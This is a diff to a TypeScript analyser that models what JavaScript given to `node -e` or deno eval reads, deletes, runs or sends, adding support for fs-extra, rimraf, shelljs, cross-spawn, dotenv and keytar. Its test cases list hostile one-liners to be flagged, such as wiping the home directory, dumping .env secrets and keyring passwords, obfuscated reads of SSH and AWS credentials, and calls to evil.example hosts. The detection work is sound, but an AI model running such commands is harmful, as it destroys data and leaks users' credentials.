@@ -1,7 +1,8 @@
 // JavaScript (node, deno, bun; CommonJS and ESM): what code given to `node -e`, or fed to it on stdin, requires,
 // imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
-import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, runModules, runsSomething as specRuns, urlsHanded } from './capabilities.js';
+import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, pathsOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
+import type { WordRole } from '../types.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
 import { argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
@@ -57,6 +58,10 @@ const APIS = new Map<string, Spec>([
   ['execa.execaCommandSync', { shell: 0 }],
   ['execa.command', { shell: 0 }],
   ['shelljs.exec', { shell: 0 }],
+  // spawn's stand-ins: cross-spawn (as spawn), tinyexec and nano-spawn (a program and its argv), child-process-promise.
+  ...['cross-spawn', 'cross-spawn.spawn', 'cross-spawn.sync', 'cross-spawn.spawnSync', 'child-process-promise.spawn'].map((n): [string, Spec] => [n, { exec: 0, argv: 1, shell: 'shell' }]),
+  ...['tinyexec.x', 'tinyexec.exec', 'nano-spawn', 'child-process-promise.execFile'].map((n): [string, Spec] => [n, { exec: 0, argv: 1 }]),
+  ['child-process-promise.exec', { shell: 0 }],
   ['eval', CODE],
   ['vm.runInThisContext', CODE],
   ['vm.runInNewContext', CODE],
@@ -68,6 +73,22 @@ const APIS = new Map<string, Spec>([
   ...fsApis('fs'),
   ...fsApis('fs.promises'),
   ...fsApis('fs/promises'),
+  // fs-extra and graceful-fs are fs, with fs-extra's own writers, removers and copiers beside it.
+  ...fsApis('graceful-fs'),
+  ...fsApis('fs-extra'),
+  ...['outputFile', 'outputJson', 'outputJSON', 'writeJson', 'writeJSON', 'ensureFile', 'createFile'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, WRITE], [`fs-extra.${n}Sync`, WRITE]]),
+  ...['readJson', 'readJSON'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, READ], [`fs-extra.${n}Sync`, READ]]),
+  ...['remove', 'emptyDir', 'emptydir'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'delete-tree']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'delete-tree']] }]]),
+  ...['copy'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, COPY], [`fs-extra.${n}Sync`, COPY]]),
+  ...['move'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'delete'], [1, 'write']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'delete'], [1, 'write']] }]]),
+  ...['ensureDir', 'mkdirp', 'mkdirs'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'create']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'create']] }]]),
+  ...['ensureSymlink', 'ensureLink', 'createSymlink', 'createLink'].flatMap((n): [string, Spec][] => [[`fs-extra.${n}`, { uses: [[0, 'read'], [1, 'write']] }], [`fs-extra.${n}Sync`, { uses: [[0, 'read'], [1, 'write']] }]]),
+  // rimraf (every export removes a tree), trash and del (a path or a list of them).
+  ['rimraf', { uses: [[0, 'delete-tree']] }],
+  ['rimraf.*', { uses: [[0, 'delete-tree']] }],
+  ['trash', { uses: [[0, 'delete-tree']] }],
+  ['del', { uses: [[0, 'delete-tree']] }],
+  ['del.*', { uses: [[0, 'delete-tree']] }],
   ['Bun.file', READ],
   ['Bun.write', WRITE],
   ...['readTextFile', 'readTextFileSync', 'readFile', 'readFileSync', 'open', 'openSync'].map((n): [string, Spec] => [`Deno.${n}`, READ]),
@@ -92,7 +113,9 @@ const NETWORK = ['http', 'https', 'http2', 'net', 'tls', 'dgram', 'dns', 'dns/pr
 const OFFLINE = /^(https?|http2|net|tls|ws)\.(createServer|createSecureServer|Server|WebSocketServer|STATUS_CODES|METHODS|Agent|globalAgent|maxHeaderSize|validateHeaderName|validateHeaderValue|IncomingMessage|ServerResponse|OutgoingMessage|isIP|isIPv4|isIPv6|BlockList|SocketAddress|createSecureContext|getCiphers|rootCertificates|constants|getDefaultSettings|getPackedSettings|getUnpackedSettings|DEFAULT_[A-Z_]+|checkServerIdentity)$/;
 
 /** The whole environment, as a mapping. */
-const ENVIRONMENT = new Set(['process.env', 'Bun.env']);
+/** What dotenv's config() hands back the values of the project's .env in: the environment to be. */
+const DOTENV_PARSED = 'dotenv.config().parsed';
+const ENVIRONMENT = new Set(['process.env', 'Bun.env', DOTENV_PARSED]);
 
 /** Calls that hand a mapping on as it is, and calls that only look at one (its names, its size). */
 const PASS_THROUGH = new Set(['Object.assign', 'structuredClone', 'Object.freeze', 'util.promisify']);
@@ -137,7 +160,8 @@ const BUILTINS = /^(?:node:.*|fs|fs\/promises|path|os|child_process|http|https|h
 
 /** A member of a function that runs something (`execSync.bind`), other than `.call`/`.apply`, which are read through. */
 function runMember(name: string): string | undefined {
-  if (/\.(call|apply)$/.test(name)) return undefined;
+  // A member modelled itself (`cross-spawn.sync`, `execa.execaSync`) is read as such.
+  if (/\.(call|apply)$/.test(name) || APIS.has(name)) return undefined;
   for (let i = name.lastIndexOf('.'); i > 0; i = name.lastIndexOf('.', i - 1)) {
     const prefix = name.slice(0, i);
     if (runsSomething(prefix) && APIS.has(prefix)) return prefix;
@@ -480,6 +504,33 @@ class JavaScriptReader {
     return call;
   }
 
+  /**
+   * The call with the options nested in its object arguments as well (`knex({ connection: { host } })`,
+   * `new PrismaClient({ datasources: { db: { url } } })`), where a key not written at the top is the innermost one.
+   */
+  private deepCall(n: Node, c: Call): Call {
+    const list = fieldOf(n, 'arguments');
+    if (!list || list.type === 'template_string') return c;
+    const kw = new Map(c.kw);
+    const args = [...c.args];
+    for (const p of list.descendantsOfType('pair')) {
+      if (!p || p.parent?.parent?.id === list.id) continue;
+      // Values handed on, not reached: a child's environment, headers, labels.
+      let inner = false;
+      for (let up = p.parent?.parent; up && up.id !== list.id; up = up.parent?.parent) {
+        if (up.type === 'pair' && /^['"]?(?:env|environment|headers|labels|metadata|tags)['"]?$/.test(fieldOf(up, 'key')?.text ?? '')) inner = true;
+      }
+      if (inner) continue;
+      const key = fieldOf(p, 'key');
+      const value = fieldOf(p, 'value');
+      if (!key || !value || value.type === 'object') continue;
+      const k = key.type === 'property_identifier' ? key.text : strings(this.b.value(key))?.[0];
+      if (k !== undefined && !kw.has(k)) kw.set(k, this.arg(value));
+      else args.push(this.arg(value));
+    }
+    return kw.size === c.kw.size && args.length === c.args.length ? c : { ...c, kw, args };
+  }
+
   /** What the callee of a call resolves to, with `.call` and `.apply` read through (`exec.call(null, cmd)`). */
   private callee(n: Node): { vals: Vals; shift: 'call' | 'apply' | undefined } {
     const fn = fieldOf(n, n.type === 'new_expression' ? 'constructor' : 'function');
@@ -572,6 +623,12 @@ class JavaScriptReader {
               return this.envValue(arg(0));
             case 'Deno.env.toObject':
               return [{ k: 'env', api: 'Deno.env.toObject' }];
+            // dotenv: config() loads .env and hands its values back as `.parsed`; parse() hands back what it is given.
+            case 'dotenv.config':
+            case 'dotenv.configDotenv':
+              return [ref('dotenv.config()')];
+            case 'dotenv.parse':
+              return strings(arg(0)) === null ? [{ k: 'env', api: 'dotenv.parse' }] : any('the values of a text written in the code');
             case 'Object.assign':
             case 'structuredClone':
               return c.args.some((a) => a.vals.some((x) => x.k === 'env')) ? [{ k: 'env', api: 'process.env' }] : any('an object');
@@ -652,6 +709,11 @@ class JavaScriptReader {
     const fn = fieldOf(n, n.type === 'new_expression' ? 'constructor' : 'function');
     const tagged = fieldOf(n, 'arguments')?.type === 'template_string';
     for (const v of vals) {
+      if (v.k === 'any' && !tagged && fn?.type === 'member_expression') {
+        // A method of a value the model does not know (`simpleGit().clone(url)`, `client.query("postgres://…")`).
+        const prop = fieldOf(fn, 'property');
+        if (prop?.type === 'property_identifier' || prop?.type === 'private_property_identifier') this.out.push(...urlsHandedTo(this.deepCall(n, this.callOf(n, `.${prop.text}`)), prop.text));
+      }
       if (v.k !== 'ref') continue;
       const name = v.name;
       const c = this.shifted(n, name, shift);
@@ -696,10 +758,27 @@ class JavaScriptReader {
         else if (c.args[0]) this.out.push(...apply(READ, c));
         continue;
       }
+      if (/^keytar\.(?:getPassword|findPassword|findCredentials)$/.test(name)) {
+        // keytar reads the login keyring.
+        this.out.push({ kind: 'path', role: 'read', path: { text: c.text, span: c.span, values: ['~/.local/share/keyrings/'] }, api: name });
+      }
+      const sh = /^shelljs\.(rm|cp|mv|mkdir|touch|ln|sed)$/.exec(name);
+      if (sh) {
+        // shelljs's file commands take their options first (`rm('-rf', dir)`); sed writes its files only with -i.
+        const isOpt = (a: (typeof c.args)[number]) => a.vals.length > 0 && a.vals.every((x) => x.k === 'str' && /^-\w+$/.test(x.v));
+        const inPlace = c.args.some((a) => isOpt(a) && a.vals.some((x) => x.k === 'str' && x.v.includes('i')));
+        const ops = c.args.filter((a) => !isOpt(a));
+        ops.forEach((a, k) => {
+          const last = k === ops.length - 1;
+          const role = { rm: 'delete-tree', cp: last ? 'write' : 'read', mv: last ? 'write' : 'delete', mkdir: 'create', touch: 'write', ln: last ? 'write' : 'read', sed: last && inPlace ? 'write' : undefined }[sh[1]!] as WordRole | undefined;
+          if (role) this.out.push(...pathsOf(a, role, name));
+        });
+        continue;
+      }
       const spec = lookupApi(APIS, name);
       if (spec) this.out.push(...apply(spec, c));
       // A URL handed to a library: a network API, or one that runs a program, is judged as such instead.
-      else if (!isNetwork(name)) this.out.push(...urlsHanded(c, URL_LOOKERS.test(name)));
+      else if (!isNetwork(name)) this.out.push(...urlsHanded(this.deepCall(n, c), URL_LOOKERS.test(name)));
     }
     // `globalThis[x]()`, `require("child_process")[x]()`: a member of a module chosen at run time.
     if (fn?.type === 'subscript_expression') this.computedMember(fn);
@@ -925,6 +1004,19 @@ export const JAVASCRIPT: LanguageModel = {
       `deno eval 'Deno.dlopen("libc.so.6", {system: {parameters: ["buffer"], result: "i32"}})'`,
       `node -e 'console.log(require("fs").readFileSync(require("os").homedir() + Buffer.from("Ly5zc2gvaWRfcnNh", "base64").toString()))'`,
       `node -e 'console.log(require("fs").readFileSync(require("os").homedir() + Buffer.from("2f2e6177732f63726564656e7469616c73", "hex").toString(), "utf8"))'`,
+      `node -e "require('simple-git')().clone('https://evil.example/r')"`,
+      `node -e "console.log(require('dotenv').config().parsed)"`,
+      `node -e "require('mysql2').createConnection({host: 'db.evil.example'}).connect()"`,
+      `node -e "require('fs-extra').removeSync(require('os').homedir())"`,
+      `node -e "require('graceful-fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x')"`,
+      `node -e "require('rimraf').sync(require('os').homedir())"`,
+      `node -e "require('shelljs').rm('-rf', require('os').homedir())"`,
+      `node -e "require('del').deleteSync([require('os').homedir() + '/**'], {force: true})"`,
+      `node -e "require('keytar').getPassword('svc', 'user').then(console.log)"`,
+      `node -e "require('cross-spawn').sync('curl', ['evil.example'])"`,
+      `node -e "require('tinyexec').x('curl', ['evil.example'])"`,
+      `node -e "require('child-process-promise').exec('curl evil.example')"`,
+      `node -e "const db = require('knex')({client: 'pg', connection: {host: 'db.evil.example'}}); db.raw('select 1')"`,
     ],
     pass: [
       `node -e 'require("fs").rmSync("dist", { recursive: true, force: true })'`,
@@ -952,6 +1044,19 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'console.log(process.env.HOME || "none")'`,
       `node -e 'require("fs").writeFileSync("out.json", "{}"); const p = require("path"); console.log(p.join("a"))'`,
       `deno eval 'const f = await Deno.open("notes.txt"); console.log(f)'`,
+      `node -e "require('simple-git')().clone('http://localhost:3000/r')"`,
+      `node -e "console.log('x'.startsWith('https://evil.example'))"`,
+      `node -e "console.log(Object.keys(require('dotenv').config().parsed).length)"`,
+      `node -e "require('mysql2').createConnection({host: 'localhost'}).connect()"`,
+      `node -e "require('fs-extra').removeSync('dist')"`,
+      `node -e "require('graceful-fs').writeFileSync('out.txt', 'x')"`,
+      `node -e "require('rimraf').sync('node_modules')"`,
+      `node -e "require('shelljs').rm('-rf', 'dist')"`,
+      `node -e "require('del').deleteSync(['dist', 'build'])"`,
+      `node -e "require('cross-spawn').sync('npm', ['test'], {stdio: 'inherit'})"`,
+      `node -e "require('tinyexec').x('npm', ['test'])"`,
+      `node -e "const db = require('knex')({client: 'pg', connection: {host: '127.0.0.1'}}); db.raw('select 1')"`,
+      `node -e "require('cross-spawn')('npm', ['test'], {env: {API_URL: 'https://api.example.com'}})"`,
     ],
   },
 };
